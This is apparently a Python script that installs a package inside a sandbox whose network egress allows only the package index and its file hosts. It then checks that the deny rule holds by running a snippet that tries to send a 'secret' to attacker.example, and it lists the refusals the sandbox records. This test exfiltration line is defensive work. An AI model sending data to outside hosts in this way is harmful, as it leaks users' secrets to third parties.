"""
An agent that installs packages from one index and reaches nothing else.

INDEX_URL is the index, FILE_HOSTS are the hosts of its files, separated by spaces, and PACKAGE is what is installed. An index with a
certificate of your own (CERTIFICATE_VERIFY_FAILED) needs CERTIFICATE, a PEM file; corporate_ca.sh makes all programs trust it.
"""

import os
import sys
import time
from pathlib import Path
from urllib.parse import urlsplit

from sandboxd import Sandbox

IMAGE = os.environ.get("IMAGE", "python:3.12")
INDEX_URL = os.environ.get("INDEX_URL", "")
PACKAGE = os.environ.get("PACKAGE", "")
HOSTS = [urlsplit(INDEX_URL).hostname or "", *os.environ.get("FILE_HOSTS", "").split()]
CERTIFICATE = os.environ.get("CERTIFICATE")

INSTALL = ["pip", "install", "--quiet", "--disable-pip-version-check", "--target", "packages", "--index-url", INDEX_URL, PACKAGE]
# What an agent that was tricked might do: send data to another host.
LEAK = """
import urllib.request
try:
    urllib.request.urlopen("https://attacker.example/?secret=1", timeout=10)
    print("sent")
except OSError as error:
    print("refused")
"""


def main() -> None:
    if not INDEX_URL or not PACKAGE:
        sys.exit("set INDEX_URL to the URL of an index, and PACKAGE to the name of a package of it")
    # The list holds for every process, also for what the installation of a package runs.
    env = {"PIP_CERT": "/workspace/index.pem"} if CERTIFICATE else {}
    sandbox = Sandbox.create(IMAGE, memory="2g", env=env, egress={"default": "deny", "allow": HOSTS})
    with sandbox:
        if CERTIFICATE:
            sandbox.files.write("index.pem", Path(CERTIFICATE).read_text())
        sandbox.execute(INSTALL, timeout="5m", check=True)
        print("installed:", sandbox.execute("pip list --path packages --format freeze", check=True).stdout.strip())
        print("another host:", sandbox.execute(["python3", "-c", LEAK], check=True).stdout.strip())
        # The service records what it refused, some tenths of a second later.
        for _ in range(50):
            refusals = list(sandbox.events.list(kinds=["network.refused"]))
            if refusals:
                break
            time.sleep(0.1)
        for name in sorted({str(event.data["name"]) for event in refusals}):
            print("recorded:", name)


if __name__ == "__main__":
    main()
